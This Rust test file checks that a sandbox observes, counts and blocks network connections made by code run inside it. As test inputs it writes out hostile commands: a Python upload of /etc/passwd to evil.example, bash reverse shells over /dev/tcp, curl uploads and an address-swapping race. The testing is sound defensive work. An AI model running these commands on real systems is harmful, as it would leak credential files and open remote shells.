//! Connections are seen, and lead nowhere.

use std::{
    net::{TcpListener, UdpSocket},
    time::{Duration, Instant},
};

use air_core::{
    effects::{ConnectionEffect, Effects, Observed, Reversibility},
    port::{Tier, Workspace},
};
use futures::executor::block_on;

use crate::{Bench, at_t3};

/// What a call attempted.
struct Seen(Observed<ConnectionEffect>);

impl Seen {
    fn all(&self) -> &[ConnectionEffect] {
        assert_eq!(self.0.incomplete, None, "{:?}", self.0);
        &self.0.items
    }

    fn to(&self, host: &str, port: u16) -> &ConnectionEffect {
        let found = self.all().iter().find(|seen| seen.host == host && seen.port == port);
        found.unwrap_or_else(|| panic!("no {host}:{port} in {:?}", self.0))
    }

    /// The only one out, with nothing delivered.
    fn only(&self, host: &str, port: u16) -> &ConnectionEffect {
        let out: Vec<_> = self.all().iter().filter(|seen| seen.direction == "out").collect();
        let [one] = *out else { panic!("{:?}", self.0) };
        assert_eq!((one.host.as_str(), one.port, one.delivered), (host, port, false));
        one
    }
}

impl Bench {
    fn seen(&self, act: impl FnOnce(&Self) -> String) -> (String, Seen) {
        let (said, effects) = self.done(act);
        (said, Seen(effects.connections))
    }

    fn done(&self, act: impl FnOnce(&Self) -> String) -> (String, Effects) {
        let before = self.checkpoint();
        let said = act(self);
        (said, self.effects(&before))
    }

    fn seen_python(&self, code: &str) -> (String, Seen) {
        self.seen(|bench| {
            let observed = bench.python(code);
            format!("{}{}", observed.content, observed.error.unwrap_or_default())
        })
    }

    fn seen_bash(&self, command: &str) -> (String, Seen) {
        self.seen(|bench| {
            let observed = bench.bash(command);
            format!("{}{}", observed.content, observed.error.unwrap_or_default())
        })
    }
}

const IMPORTS: &str = "import socket, threading, os, ctypes, asyncio, ssl, time, struct\n\
    import urllib.request, multiprocessing\n";

fn with_python(test: impl FnOnce(&Bench)) {
    at_t3(|bench| {
        bench.python(IMPORTS);
        test(&bench);
    });
}

#[test]
fn a_plain_connection_is_seen_with_what_was_sent() {
    with_python(|bench| {
        let (said, effects) = bench.done(|bench| {
            let code = "s = socket.create_connection(('93.184.216.34', 4444), 5)\n\
                s.sendall(b'x' * 100)\ns.close()\nprint('sent')";
            bench.python(code).content
        });
        assert_eq!(said.trim(), "sent");
        assert_eq!(effects.reversibility(), Reversibility::ReadOnly);
        let seen = Seen(effects.connections);
        assert_eq!(seen.only("93.184.216.34", 4444).bytes_sent, 100);
    });
}

#[test]
fn an_upload_by_name_is_seen_and_refused() {
    with_python(|bench| {
        let size = std::fs::metadata("/etc/passwd").unwrap().len();
        let (said, seen) = bench.seen_python(
            "urllib.request.urlopen('http://evil.example/x', data=open('/etc/passwd','rb').read())",
        );
        assert!(said.contains("HTTP Error 403: Forbidden"), "{said}");
        assert!(seen.to("evil.example", 80).bytes_sent > size);
        assert!(seen.to("evil.example", 53).bytes_sent > 0);
    });
}

#[test]
fn the_name_of_an_encrypted_connection_is_seen() {
    with_python(|bench| {
        let code = "c = ssl.create_default_context()\n\
            s = socket.create_connection(('192.0.2.7', 443), 5)\n\
            c.wrap_socket(s, server_hostname='hidden.example')";
        let (said, seen) = bench.seen_python(code);
        assert!(said.contains("ssl.SSL") || said.contains("EOF"), "{said}");
        assert!(seen.only("hidden.example", 443).bytes_sent > 0);
        let (_, seen) = bench.seen_python("urllib.request.urlopen('https://evil.example/')");
        seen.to("evil.example", 443);
    });
}

#[test]
fn datagrams_are_seen_in_every_way_of_sending_them() {
    with_python(|bench| {
        let (said, seen) = bench.seen_python(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
            print(s.sendto(b'x' * 33, ('203.0.113.9', 9999)))\n\
            print(s.sendmsg([b'ab', b'cde'], [], 0, ('203.0.113.9', 9998)))\n\
            s.connect(('203.0.113.9', 9997))\nprint(s.send(b'1234567'))\n\
            print(s.sendmsg([b'12', b'3']))\ns.close()",
        );
        assert_eq!(said.split_whitespace().collect::<Vec<_>>(), ["33", "5", "7", "3"]);
        assert_eq!(seen.to("203.0.113.9", 9999).bytes_sent, 33);
        assert_eq!(seen.to("203.0.113.9", 9998).bytes_sent, 5);
        assert_eq!(seen.to("203.0.113.9", 9997).bytes_sent, 10);
    });
}

#[test]
fn a_name_that_is_looked_up_is_seen() {
    with_python(|bench| {
        let (said, seen) =
            bench.seen_python("print(socket.getaddrinfo('secret.evil.example', 80)[0][4][0])");
        assert!(said.starts_with("198.18."), "{said}");
        assert!(seen.only("secret.evil.example", 53).bytes_sent > 30);
        let (said, seen) = bench.seen_python(
            "q = bytes([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 3]) + b'raw' + bytes([0, 0, 1, 0, 1])\n\
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n\
            s.sendto(q, ('8.8.8.8', 53)); print(s.recv(99)[-4])\n\
            t = socket.create_connection(('8.8.4.4', 53), 5)\n\
            t.sendall(struct.pack('>H', len(q)) + q); print(t.recv(99)[-4]); t.close()",
        );
        assert_eq!(said.split_whitespace().collect::<Vec<_>>(), ["198", "198"], "{said}");
        let raw: Vec<_> = seen.all().iter().filter(|seen| seen.host == "raw").collect();
        assert_eq!(raw.iter().map(|seen| seen.bytes_sent).collect::<Vec<_>>(), [21, 23]);
        let (said, _) = bench.seen_bash("getent hosts other.example");
        assert!(said.contains("other.example"), "{said}");
    });
}

#[test]
fn a_reverse_shell_is_seen() {
    with_python(|bench| {
        let command = "timeout 10 bash -c 'echo hello > /dev/tcp/10.0.0.1/9001'; echo $?";
        let (said, seen) = bench.seen_bash(command);
        assert_eq!(said.trim(), "0");
        assert_eq!(seen.only("10.0.0.1", 9001).bytes_sent, 6);
        let command = "timeout 12 bash -i >& /dev/tcp/10.0.0.1/9002 0>&1; echo ended";
        let (said, seen) = bench.seen_bash(command);
        assert!(said.contains("ended"), "{said}");
        seen.only("10.0.0.1", 9002);
    });
}

#[test]
fn ipv6_is_seen() {
    with_python(|bench| {
        let (said, seen) = bench.seen_python(
            "s = socket.create_connection(('2001:db8::5', 70), 5)\ns.sendall(b'six')\ns.close()\n\
            s = socket.socket(socket.AF_INET6)\ns.connect(('::ffff:10.9.8.7', 71))\n\
            s.sendall(b'four')\ns.close()\n\
            s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n\
            s.sendto(b'dgram', ('2001:db8::6', 72))\ns.close()\nprint('ok')",
        );
        assert_eq!(said.trim(), "ok");
        assert_eq!(seen.to("2001:db8::5", 70).bytes_sent, 3);
        assert_eq!(seen.to("10.9.8.7", 71).bytes_sent, 4);
        assert_eq!(seen.to("2001:db8::6", 72).bytes_sent, 5);
    });
}

#[test]
fn sockets_that_do_not_wait_work() {
    with_python(|bench| {
        let code = "async def go():\n\
            \x20   r, w = await asyncio.wait_for(asyncio.open_connection('a.example', 8080), 5)\n\
            \x20   w.write(b'GET /x HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n')\n\
            \x20   await w.drain()\n\
            \x20   print((await r.read())[:12])\n\
            \x20   w.close()\n\
            asyncio.run(go())";
        let (said, seen) = bench.seen_python(code);
        assert_eq!(said.trim(), "b'HTTP/1.1 403'");
        assert_eq!(seen.to("a.example", 8080).bytes_sent, 36);
        let (said, seen) = bench.seen_python(
            "s = socket.socket()\ns.setblocking(False)\nprint(s.connect_ex(('10.1.1.1', 5)))\n\
            import select; print(select.select([], [s], [], 5)[1] == [s])\n\
            print(s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR))\n\
            print(s.connect_ex(('10.1.1.1', 5)) in (0, 106)); s.close()",
        );
        assert_eq!(said.split_whitespace().collect::<Vec<_>>(), ["115", "True", "0", "True"]);
        seen.only("10.1.1.1", 5);
    });
}

#[test]
fn many_connections_are_all_seen() {
    with_python(|bench| {
        let (said, seen) = bench.seen_python(
            "for i in range(500):\n    s = socket.create_connection(('10.2.0.1', 1000 + i), 5)\n\
            \x20   s.sendall(b'%d' % i)\n    s.close()\nprint('ok')",
        );
        assert_eq!(said.trim(), "ok");
        assert_eq!(seen.all().len(), 500);
        assert_eq!(seen.to("10.2.0.1", 1499).bytes_sent, 3);
        let (_, seen) = bench.seen_python(
            "for i in range(5000):\n    s = socket.create_connection(('10.2.0.3', 8), 5)\n\
            \x20   s.send(b'z'); s.close()",
        );
        assert_eq!(seen.all().iter().map(|seen| seen.bytes_sent).sum::<u64>(), 5000);
        let (said, seen) = bench.seen_python(
            "l = []\nfor i in range(700):\n    s = socket.socket()\n    s.connect(('10.2.0.2', 9))\n\
            \x20   l.append(s)\n    s.send(b'y')\nprint('ok')",
        );
        assert!(said.contains("ok"), "{said}");
        assert_eq!(seen.all().len(), 700);
        assert_eq!(seen.all().iter().map(|seen| seen.bytes_sent).sum::<u64>(), 700);
    });
}

#[test]
fn a_large_upload_is_counted_and_not_kept() {
    with_python(|bench| {
        let (said, seen) = bench.seen_python(
            "s = socket.create_connection(('10.3.0.1', 80), 5)\nb = bytes(1 << 20)\n\
            for i in range(50):\n    s.sendall(b)\ns.close()\n\
            print(open('/proc/1/status').read().split('VmRSS:')[1].split()[0])",
        );
        assert_eq!(seen.only("10.3.0.1", 80).bytes_sent, 50 << 20);
        let kilobytes: u64 = said.trim().parse().unwrap();
        assert!(kilobytes < 60_000, "{kilobytes}");
    });
}

const SERVER: &str = "srv = socket.create_server(('127.0.0.1', 8123))\n\
    def serve():\n    c, _ = srv.accept()\n    c.sendall(c.recv(10).upper())\n    c.close()\n\
    t = threading.Thread(target=serve); t.start()\n";

#[test]
fn a_server_inside_can_be_reached_and_is_told_apart() {
    with_python(|bench| {
        let code = format!(
            "{SERVER}s = socket.create_connection(('localhost', 8123), 5)\ns.sendall(b'abc')\n\
            print(s.recv(10)); s.close(); t.join(); srv.close()\n\
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('127.0.0.1', 8124))\n\
            v = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
            v.sendto(b'dg', ('127.0.0.1', 8124)); print(u.recv(9)); u.close(); v.close()\n\
            print(socket.socket().connect_ex(('127.0.0.1', 1)))"
        );
        let (said, seen) = bench.seen_python(&code);
        assert_eq!(said.split_whitespace().collect::<Vec<_>>(), ["b'ABC'", "b'dg'", "111"]);
        let inside: Vec<_> = seen.all().iter().filter(|seen| seen.direction == "local").collect();
        let ports = |delivered| {
            inside.iter().filter(move |seen| seen.delivered == delivered).map(|seen| seen.port)
        };
        assert_eq!(ports(true).collect::<Vec<_>>(), [8123, 8124], "{inside:?}");
        assert!(ports(false).any(|port| port == 1));
        assert!(seen.all().iter().all(|seen| seen.direction != "out"), "{:?}", seen.0);
    });
}

#[test]
fn a_listener_left_behind_is_seen_once() {
    with_python(|bench| {
        let (_, seen) = bench.seen_python("keep = socket.create_server(('0.0.0.0', 31337))");
        let [one] = seen.all() else { panic!("{:?}", seen.0) };
        let (host, port, direction) = (one.host.as_str(), one.port, one.direction.as_str());
        assert_eq!((host, port, direction), ("0.0.0.0", 31337, "listen"));
        let (_, seen) = bench.seen_python("pass");
        assert_eq!(seen.all(), []);
    });
}

#[test]
fn curl_is_seen() {
    with_python(|bench| {
        if !bench.bash("command -v curl").content.contains("curl") {
            crate::skip("no curl");
            return;
        }
        bench.bash("head -c 3000000 /dev/zero > big");
        let command =
            "curl -sS -m 10 -o out -w '%{http_code}' --data-binary @big http://up.example:8000/";
        let (said, seen) = bench.seen_bash(command);
        assert_eq!(said.trim(), "403");
        assert!(seen.to("up.example", 8000).bytes_sent > 3_000_000);
        let command = "curl -sS -m 10 -T - -w '%{http_code}' http://up.example/ < big; cat out";
        let (said, seen) = bench.seen_bash(command);
        assert!(said.contains("403") && said.contains("no network"), "{said}");
        assert!(seen.to("up.example", 80).bytes_sent > 3_000_000);
        let (said, seen) = bench.seen_bash("curl -sS -m 10 https://tls.example/");
        assert!(said.contains("exit code"), "{said}");
        seen.to("tls.example", 443);
    });
}

#[test]
fn a_later_attempt_belongs_to_its_step() {
    with_python(|bench| {
        let daemon = "import socket,time,os\nwhile not os.path.exists('go'): time.sleep(0.02)\n\
            socket.create_connection(('10.4.0.1', 44)).sendall(b'late')\nopen('done','w')\n\
            time.sleep(60)";
        bench.write("daemon.py", daemon, 0o644);
        let (_, seen) = bench.seen_bash("python3 daemon.py >/dev/null 2>&1 & sleep 0.2");
        assert_eq!(seen.all(), []);
        let before = bench.checkpoint();
        bench.bash("touch go; while ! test -e done; do sleep 0.02; done");
        for _ in 0..2 {
            let seen = Seen(bench.effects(&before).connections);
            assert_eq!(seen.only("10.4.0.1", 44).bytes_sent, 4);
        }
        let (_, seen) = bench.seen_bash("true");
        assert_eq!(seen.all(), []);
    });
}

#[test]
fn what_an_open_connection_sends_belongs_to_the_step_that_sends() {
    with_python(|bench| {
        let (_, seen) =
            bench.seen_python("s = socket.create_connection(('10.5.0.1', 55)); _ = s.send(b'one')");
        assert_eq!(seen.only("10.5.0.1", 55).bytes_sent, 3);
        let (_, seen) = bench.seen_python("_ = s.send(b'twice')");
        assert_eq!(seen.only("10.5.0.1", 55).bytes_sent, 5);
    });
}

#[test]
fn isolating_cuts_what_is_open_and_what_comes() {
    with_python(|bench| {
        bench.python("s = socket.create_connection(('10.6.0.1', 66)); _ = s.send(b'x')");
        let said = block_on(bench.workspace.isolate()).unwrap();
        assert_eq!(said, "cut the network and 1 connection");
        let (said, seen) = bench.seen_python(
            "try:\n    s.settimeout(5); print('data', s.recv(1))\nexcept OSError as e: print(e.errno)\n\
            print(socket.socket().connect_ex(('10.6.0.2', 67)))\n\
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
            try:\n    u.sendto(b'zz', ('10.6.0.3', 68))\nexcept OSError as e: print(e.errno)",
        );
        assert_eq!(said.split_whitespace().collect::<Vec<_>>(), ["104", "101", "101"]);
        assert_eq!(seen.to("10.6.0.2", 67).bytes_sent, 0);
        seen.to("10.6.0.3", 68);
    });
}

#[test]
fn nothing_reaches_the_host() {
    with_python(|bench| {
        let stream = TcpListener::bind("127.0.0.1:0").unwrap();
        let datagrams = UdpSocket::bind("127.0.0.1:0").unwrap();
        stream.set_nonblocking(true).unwrap();
        datagrams.set_nonblocking(true).unwrap();
        let (tcp, udp) =
            (stream.local_addr().unwrap().port(), datagrams.local_addr().unwrap().port());
        let (said, seen) = bench.seen_python(&format!(
            "print(socket.socket().connect_ex(('127.0.0.1', {tcp})))\n\
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
            print(u.sendto(b'hi', ('127.0.0.1', {udp})))\n\
            try: socket.socket(socket.AF_VSOCK)\n\
            except OSError as e: print(e.errno)"
        ));
        assert_eq!(said.split_whitespace().collect::<Vec<_>>(), ["111", "2", "93"]);
        assert!(!seen.to("127.0.0.1", tcp).delivered);
        assert_eq!(seen.to("127.0.0.1", udp).bytes_sent, 2);
        assert!(stream.accept().is_err());
        assert!(datagrams.recv(&mut [0; 9]).is_err());
    });
}

#[test]
fn an_address_that_changes_meanwhile_leads_nowhere_else() {
    with_python(|bench| {
        let (said, seen) = bench.seen_python(
            "libc = ctypes.CDLL(None, use_errno=True)\n\
            srv = socket.create_server(('127.0.0.1', 8222), backlog=500)\n\
            good = struct.pack('>HHI8x', 0x0200, 8222, 0x7f000001)\n\
            evil = struct.pack('>HHI8x', 0x0200, 8222, 0x0a070001)\n\
            buf = ctypes.create_string_buffer(good, 16)\nstop = False\n\
            def flip():\n    while not stop:\n\
            \x20       ctypes.memmove(buf, evil, 16); ctypes.memmove(buf, good, 16)\n\
            t = threading.Thread(target=flip); t.start()\n\
            ok = 0\nfor i in range(200):\n    s = socket.socket()\n\
            \x20   ok += libc.connect(s.fileno(), buf, 16) == 0\n    s.close()\n\
            stop = True; t.join()\n\
            srv.setblocking(False)\ntaken = 0\n\
            while True:\n    try: srv.accept(); taken += 1\n    except OSError: break\n\
            srv.close(); print(ok, taken)",
        );
        let numbers: Vec<usize> = said.split_whitespace().map(|one| one.parse().unwrap()).collect();
        let [ok, taken] = *numbers else { panic!("{said}") };
        let count = |host: &str| seen.all().iter().filter(|seen| seen.host == host).count();
        assert_eq!(ok, 200);
        assert_eq!(count("127.0.0.1"), taken.min(1));
        assert_eq!(count("10.7.0.1"), 200 - taken);
    });
}

#[test]
fn whoever_hides_gets_no_connection() {
    with_python(|bench| {
        let (said, seen) = bench.seen_python(
            "pid = os.fork()\nif pid == 0:\n\
            \x20   ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)\n\
            \x20   os._exit(socket.socket().connect_ex(('10.8.0.1', 88)))\n\
            print(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))",
        );
        assert_eq!(said.trim(), "1");
        seen.only("unknown", 0);
    });
}

#[test]
fn processes_still_talk_to_each_other() {
    with_python(|bench| {
        bench.write(
            "talk.py",
            "import multiprocessing, socket, os\nfrom multiprocessing import Queue, Process, Manager\n\
            from multiprocessing.reduction import send_handle, recv_handle\n\
            def work(q, n):\n    for i in range(n): q.put(i)\n\
            if __name__ == '__main__':\n    q = Queue(); p = Process(target=work, args=(q, 500)); p.start()\n\
            \x20   print(sum(q.get() for _ in range(500))); p.join()\n\
            \x20   with Manager() as m:\n        l = m.list([1, 2]); l.append(3); print(sum(l))\n\
            \x20   a, b = multiprocessing.Pipe(); r, w = os.pipe()\n\
            \x20   send_handle(a, w, os.getpid()); h = recv_handle(b); os.write(h, b'fd'); print(os.read(r, 2))\n\
            \x20   s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.bind('/tmp/u')\n\
            \x20   t = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); t.sendto(b'unix', '/tmp/u'); print(s.recv(9))\n",
            0o644,
        );
        let (said, seen) = bench.seen_bash("python3 talk.py");
        let words: Vec<_> = said.split_whitespace().collect();
        assert_eq!(words, ["124750", "6", "b'fd'", "b'unix'"], "{said}");
        assert_eq!(seen.all(), []);
    });
}

#[test]
fn a_flood_of_datagrams_is_no_whole_list_or_all_counted() {
    with_python(|bench| {
        let (_, seen) = bench.seen_python(
            "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('10.9.0.1', 99))\n\
            b = bytes(1400)\nfor i in range(20000): u.send(b)",
        );
        let sum: u64 = seen.0.items.iter().map(|seen| seen.bytes_sent).sum();
        assert!(sum == 20_000 * 1400 || seen.0.incomplete.is_some(), "{sum} {:?}", seen.0);
    });
}

#[test]
fn without_a_namespace_connections_are_not_observed() {
    let Some(bench) = Bench::try_new(Tier::T2) else { return };
    let (_, effects) = bench.done(|bench| bench.bash("true").content);
    assert!(effects.connections.incomplete.is_some());
}

#[test]
fn a_sandbox_that_is_gone_leaves_no_whole_list() {
    with_python(|bench| {
        let before = bench.checkpoint();
        bench.python("_ = socket.create_connection(('10.10.0.1', 7)).send(b'bye')");
        bench.rollback(&before);
        let seen = Seen(bench.effects(&before).connections);
        assert_eq!(seen.only("10.10.0.1", 7).bytes_sent, 3);
        bench.bash("true");
        let begun = Instant::now();
        assert_eq!(bench.effects(&before).connections.items.len(), 1);
        assert!(begun.elapsed() < Duration::from_secs(5));
    });
}
